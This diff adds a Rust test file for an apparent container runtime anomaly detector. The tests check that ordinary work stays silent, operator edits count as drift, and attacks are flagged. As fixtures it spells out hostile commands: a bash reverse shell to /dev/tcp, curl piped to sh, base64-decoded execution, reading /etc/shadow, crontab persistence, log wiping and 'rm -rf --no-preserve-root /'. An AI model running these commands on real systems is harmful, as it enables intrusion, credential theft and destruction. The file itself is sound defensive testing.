@@ -1,0 +1,301 @@
+//! Verdicts: what the model says of ordinary work, drifts and attacks, and that it says so for a reason.
+
+mod world;
+
+use plumbline_model::{
+    BaselineState, EVIDENCE, Params, Verdict,
+    event::{Action, Batch, Loss, ProcessFlags},
+};
+use world::World;
+
+const PUBLIC: Action<'static> = Action::Connect { address: "93.184.216.34", port: 4444 };
+
+#[test]
+fn ordinary_work_of_a_learned_image_is_silent_in_new_containers_too() {
+    let mut world = World::learned();
+    let server = world.serve(3);
+    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
+    world.exec(health);
+    assert_eq!(world.verdicts(), []);
+}
+
+#[test]
+fn an_operator_who_edits_the_configuration_in_place_is_one_drift() {
+    let mut world = World::learned();
+    let shell = world.session(0, "/bin/sh", &["sh", "-c", "sed -i s/a/b/ /etc/web.conf"], 0);
+    world.exec(shell);
+    let sed = world.spawn(shell, "/bin/sed", &["sed", "-i", "s/a/b/", "/etc/web.conf"], 0);
+    world.exec(sed);
+    let verdicts = world.verdicts();
+    assert_eq!(verdicts.len(), 1);
+    assert_eq!(verdicts[0].0, Verdict::Drift);
+    assert_eq!(verdicts[0].1.findings.len(), 2);
+    assert!(world.evidence().contains(&"runtime_exec_session".to_owned()));
+}
+
+#[test]
+fn a_known_program_with_new_arguments_is_a_drift_with_what_was_expected() {
+    let mut world = World::learned();
+    let server = world.serve(0);
+    let health = world.spawn(server, "/usr/bin/health", &["health", "--debug"], 0);
+    world.exec(health);
+    let verdicts = world.verdicts();
+    assert_eq!(verdicts.len(), 1);
+    assert_eq!(verdicts[0].0, Verdict::Drift);
+    assert_eq!(verdicts[0].1.findings[0].expected[0].value, "--port <num>");
+}
+
+#[test]
+fn a_dropped_binary_that_connects_out_is_an_attack_even_from_an_exec_session() {
+    let mut world = World::learned();
+    let shell = world.session(0, "/bin/sh", &["sh", "-c", "/tmp/x"], 0);
+    world.exec(shell);
+    let dropped = world.spawn(shell, "/tmp/x", &["/tmp/x"], ProcessFlags::UPPER_LAYER);
+    world.exec(dropped);
+    world.act(dropped, PUBLIC);
+    let verdicts = world.verdicts();
+    assert_eq!(verdicts.len(), 1, "one incident for one chain");
+    assert_eq!(verdicts[0].0, Verdict::Attack);
+    assert!(verdicts[0].1.probabilities.attack > 0.9);
+}
+
+#[test]
+fn a_shell_below_the_server_is_an_attack_and_what_follows_joins_it() {
+    let mut world = World::learned();
+    let server = world.serve(1);
+    let shell = world.spawn(server, "/bin/sh", &["sh", "-c", "id; uname -a; whoami"], 0);
+    world.exec(shell);
+    for (path, arguments) in [
+        ("/usr/bin/id", &["id"][..]),
+        ("/bin/uname", &["uname", "-a"][..]),
+        ("/usr/bin/whoami", &["whoami"][..]),
+    ] {
+        let tool = world.spawn(shell, path, arguments, 0);
+        world.exec(tool);
+    }
+    let verdicts = world.verdicts();
+    assert_eq!(verdicts.len(), 1);
+    assert_eq!(verdicts[0].0, Verdict::Attack);
+    let evidence = world.evidence();
+    for name in ["service_started_shell", "reconnaissance_sequence", "service_started_tool"] {
+        assert!(evidence.iter().any(|item| item == name), "{name} is missing in {evidence:?}");
+    }
+}
+
+#[test]
+fn a_dropped_binary_during_learning_is_an_attack_for_there_is_no_amnesty() {
+    let mut world = World::new();
+    let server = world.serve(0);
+    let dropped = world.spawn(server, "/tmp/.x", &["[kworker]"], ProcessFlags::MEMFD);
+    world.exec(dropped);
+    world.act(dropped, PUBLIC);
+    let verdicts = world.verdicts();
+    assert_eq!(verdicts.len(), 1);
+    assert_eq!(verdicts[0].0, Verdict::Attack);
+    assert!(verdicts[0].1.caveats.iter().any(|caveat| caveat.contains("still learning")));
+}
+
+#[test]
+fn what_was_judged_an_attack_never_enters_the_baseline() {
+    let mut world = World::learned();
+    let known = |world: &World| {
+        let image = world.model.image(world.digest).unwrap();
+        world.model.summary(image).dimensions.iter().map(|d| d.behaviours).sum::<u64>()
+    };
+    let before = known(&world);
+    for round in 0..5 {
+        let server = world.serve(2);
+        let shell = world.spawn(server, "/bin/bash", &["bash", "-i"], ProcessFlags::SOCKET_STDIO);
+        world.exec(shell);
+        assert_eq!(known(&world), before, "round {round}");
+    }
+    assert_eq!(world.verdicts().len(), 1, "the same news from the same container is one incident");
+    assert_eq!(world.verdicts()[0].1.events, 4, "repeats are told at one, two and four, not each time");
+}
+
+#[test]
+fn what_looked_harmless_is_forgotten_when_its_incident_turns_out_otherwise() {
+    let mut world = World::new();
+    let server = world.serve(0);
+    let shell = world.spawn(server, "/bin/ash", &["ash"], 0);
+    world.exec(shell);
+    let tool = world.spawn(shell, "/bin/odd", &["odd"], 0);
+    assert!(world.exec(tool).incidents.is_empty(), "while learning, a new tool is not alerted");
+    let image = format!("{:?}", world.model.image(world.digest).unwrap());
+    assert!(image.contains("/bin/odd"));
+    let dropped = world.spawn(shell, "/tmp/x", &["/tmp/x"], ProcessFlags::MEMFD);
+    world.exec(dropped);
+    world.act(dropped, PUBLIC);
+    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
+    let tables = world.model.summary(world.model.image(world.digest).unwrap());
+    let spawns = tables.dimensions[0].behaviours;
+    assert_eq!(spawns, 1, "only the server's own start is left");
+}
+
+#[test]
+fn a_new_version_starts_from_what_its_predecessor_does() {
+    let mut world = World::learned();
+    world.digest = "sha256:v2";
+    let server = world.serve(0);
+    for _ in 0..20 {
+        world.close_windows(false);
+    }
+    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
+    world.exec(health);
+    assert_eq!(world.verdicts(), []);
+    assert_eq!(world.state(), BaselineState::Learning, "the new version has a baseline of its own");
+}
+
+#[test]
+fn windows_with_losses_teach_nothing() {
+    let mut world = World::new();
+    world.serve(0);
+    world.close_windows(true);
+    world.close_windows(false);
+    let image = world.model.image(world.digest).unwrap();
+    let summary = world.model.summary(image);
+    assert_eq!((summary.exposures, summary.exposures_lossy), (4, 4));
+}
+
+#[test]
+fn losses_are_named_in_the_verdict() {
+    let mut world = World::learned();
+    let lost = Batch { losses: vec![Loss { container: None, events: 7 }], ..world.batch() };
+    world.apply(lost);
+    let shell = world.session(0, "/bin/sh", &["sh"], ProcessFlags::TERMINAL);
+    world.exec(shell);
+    assert!(
+        world.verdicts()[0].1.caveats.iter().any(|caveat| caveat.contains("7 events")),
+        "{:?}",
+        world.told
+    );
+}
+
+#[test]
+fn a_busy_loop_teaches_no_more_than_one_execution_a_window() {
+    let observations = |repeats: usize| {
+        let mut world = World::new();
+        let server = world.serve(0);
+        for _ in 0..repeats {
+            let tool = world.spawn(server, "/bin/tool", &["tool"], 0);
+            world.exec(tool);
+        }
+        let image = world.model.image(world.digest).unwrap();
+        world.model.summary(image).dimensions.iter().map(|d| d.observations).sum::<u64>()
+    };
+    assert_eq!(observations(1), observations(500));
+}
+
+#[test]
+fn a_quiet_hour_ends_an_incident() {
+    let mut world = World::learned();
+    let quiet = Params::default().quiet_windows + 2;
+    for expected in 1..3 {
+        let shell = world.session(0, "/bin/sh", &["sh"], 0);
+        world.exec(shell);
+        assert_eq!(world.verdicts().len(), expected);
+        (0..quiet).for_each(|_| world.close_windows(false));
+    }
+}
+
+#[test]
+fn the_same_batches_give_the_same_state_and_the_same_words() {
+    let run = || {
+        let mut world = World::learned();
+        let shell = world.session(0, "/bin/sh", &["sh", "-c", "curl http://10.0.0.1/x | sh"], 0);
+        world.exec(shell);
+        let states: Vec<_> = world.model.images().map(|image| postcard::to_stdvec(image).unwrap()).collect();
+        (states, world.told)
+    };
+    assert!(run() == run());
+}
+
+#[test]
+fn a_stored_state_goes_on_as_if_it_had_never_been_stored() {
+    let mut kept = World::learned();
+    let mut stored = World::learned();
+    let images: Vec<_> = stored.model.images().map(|image| postcard::to_stdvec(image).unwrap()).collect();
+    stored.model = plumbline_model::Model::new(Params::default());
+    for image in &images {
+        stored.model.load(postcard::from_bytes(image).unwrap());
+    }
+    for world in [&mut kept, &mut stored] {
+        let shell = world.session(0, "/bin/sh", &["sh"], 0);
+        world.exec(shell);
+    }
+    assert_eq!(kept.told, stored.told);
+}
+
+/// One way to raise each row of the evidence table: a command below the server or in a session.
+#[test]
+fn every_row_of_the_evidence_table_can_be_raised_and_ordinary_work_raises_none() {
+    const UPPER: u32 = ProcessFlags::UPPER_LAYER;
+    type Command = (&'static str, &'static [&'static str], u32);
+    let exec = |path: &'static str, line: &'static [&'static str], flags: u32| (path, line, flags);
+    let cases: &[(&str, Command, Option<Action<'static>>)] = &[
+        ("executable_written_after_build", exec("/opt/x", &["/opt/x"], UPPER), None),
+        ("executable_in_memory", exec("memfd:x", &["x"], ProcessFlags::MEMFD), None),
+        ("executable_deleted", exec("/opt/x", &["x"], ProcessFlags::DELETED), None),
+        ("executable_in_scratch_directory", exec("/dev/shm/x", &["x"], 0), None),
+        ("executable_masquerades", exec("/opt/x", &["nginx: worker"], UPPER), None),
+        ("egress_by_new_executable", exec("/opt/x", &["x"], UPPER), Some(PUBLIC)),
+        (
+            "listener_by_new_executable",
+            exec("/opt/x", &["x"], UPPER),
+            Some(Action::Listen { address: "0.0.0.0", port: 9 }),
+        ),
+        ("service_started_shell", exec("/bin/dash", &["sh"], 0), None),
+        ("service_started_tool", exec("/usr/bin/curl", &["curl"], 0), None),
+        ("shell_on_socket", exec("/bin/bash", &["bash"], ProcessFlags::SOCKET_STDIO), None),
+        ("downloader_started", exec("/usr/bin/wget", &["wget", "http://x/y"], 0), None),
+        ("file_made_executable", exec("/bin/chmod", &["chmod", "+x", "/tmp/y"], 0), None),
+        ("network_relay_started", exec("/bin/nc", &["nc", "-l"], 0), None),
+        ("scanner_started", exec("/usr/bin/nmap", &["nmap"], 0), None),
+        (
+            "metadata_service_contacted",
+            exec("/bin/y", &["y"], 0),
+            Some(Action::Connect { address: "169.254.169.254", port: 80 }),
+        ),
+        ("first_public_egress", exec("/bin/y", &["y"], 0), Some(PUBLIC)),
+        ("new_listener", exec("/bin/y", &["y"], 0), Some(Action::Listen { address: "0.0.0.0", port: 9 })),
+        (
+            "code_from_network",
+            exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"], 0),
+            None,
+        ),
+        ("encoded_code", exec("/bin/sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"], 0), None),
+        ("credentials_named", exec("/bin/cat", &["cat", "/etc/shadow"], 0), None),
+        ("persistence_location_named", exec("/bin/sh", &["sh", "-c", "echo x >> /etc/crontab"], 0), None),
+        ("host_interface_named", exec("/bin/sh", &["sh", "-c", "ls /var/run/docker.sock"], 0), None),
+        ("privilege_tool_started", exec("/usr/bin/nsenter", &["nsenter"], 0), None),
+        ("miner_started", exec("/opt/y", &["y", "-o", "stratum+tcp://pool:3333"], 0), None),
+        ("tracks_covered", exec("/bin/sh", &["sh", "-c", "rm -rf /var/log/app"], 0), None),
+        ("destruction", exec("/bin/rm", &["rm", "-rf", "--no-preserve-root", "/"], 0), None),
+        ("package_manager", exec("/usr/bin/apt-get", &["apt-get", "install", "x"], 0), None),
+    ];
+    let mut raised: Vec<String> = Vec::new();
+    for (name, (path, line, flags), then) in cases {
+        let mut world = World::learned();
+        let server = world.serve(0);
+        let process = world.spawn(server, path, line, *flags);
+        world.exec(process);
+        if let Some(action) = then {
+            world.act(process, *action);
+        }
+        let evidence = world.evidence();
+        assert!(evidence.iter().any(|item| item == name), "{name} was not raised by {line:?}: {evidence:?}");
+        raised.extend(evidence);
+    }
+    let mut world = World::learned();
+    let shell = world.session(0, "/bin/sh", &["sh"], ProcessFlags::TERMINAL);
+    world.exec(shell);
+    for (path, line) in [("/bin/ps", &["ps"][..]), ("/bin/df", &["df"][..]), ("/bin/ss", &["ss"][..])] {
+        let tool = world.spawn(shell, path, line, 0);
+        world.exec(tool);
+    }
+    raised.extend(world.evidence());
+    assert_eq!(world.verdicts()[0].0, Verdict::Drift, "an operator who looks around is no attacker");
+    for row in EVIDENCE {
+        assert!(raised.iter().any(|name| name == row.name), "nothing here raises {}", row.name);
+    }
+}
